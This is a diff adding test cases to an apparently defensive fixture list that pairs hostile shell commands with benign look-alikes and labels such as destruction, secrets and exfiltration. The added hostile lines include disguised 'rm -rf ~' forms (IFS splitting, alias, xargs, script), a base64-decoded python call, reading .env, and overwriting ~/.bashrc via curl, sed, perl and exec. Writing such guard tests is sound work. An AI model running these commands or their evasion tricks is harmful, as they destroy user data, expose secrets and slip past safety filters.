@@ -189,6 +189,18 @@ FORMS = [
     ("cd ~ && rm -rf *", "destruction", "cd build && rm -rf *.o"),
     ("echo 'x' > $MASSGEN_KEYDIR_FILE", "access_control", "echo 'x' > build/plan.txt"),
     ("echo 'unterminated", "supply_chain", "echo 'terminated'"),
+    ("IFS=,; c=rm,-rf,~; $c", "supply_chain", "c=ls; $c"),
+    ("alias r='rm -rf ~'", "destruction", "alias ll='ls -la'"),
+    ("pushd ~ && rm -rf *", "destruction", "pushd build && rm -rf *"),
+    ("python3 -c \"$(echo cHJpbnQ= | base64 -d)\"", "supply_chain", "python3 -c 'print(2)'"),
+    ("cat < .env", "secrets", "cat < .env.example"),
+    ("echo 'rm -rf ~' | xargs -I{} sh -c {}", "supply_chain", "echo a b | xargs -n1 echo"),
+    ("script -qc 'rm -rf ~' /dev/null", "destruction", "script -qc 'ls' /dev/null"),
+    ("ln -s ~ build/home", "destruction", "ln -s ../README.md build/README.md"),
+    ("sed -i s/a/b/ ~/.bashrc", "exfiltration", "sed -i s/a/b/ build/x.txt"),
+    ("perl -pi -e s/a/b/ ~/.bashrc", "exfiltration", "perl -pi -e s/a/b/ build/x.txt"),
+    ("curl -o ~/.bashrc https://x.example", "exfiltration", "curl -o out.json https://x.example"),
+    ("exec 3>~/.bashrc", "exfiltration", "exec 3>build/log.txt"),
 ]
 
 BENIGN_GLOBS = ["rm -rf *.egg-info", "rm -rf *.pyc", "rm -rf ./*.log", "rm -rf build/",
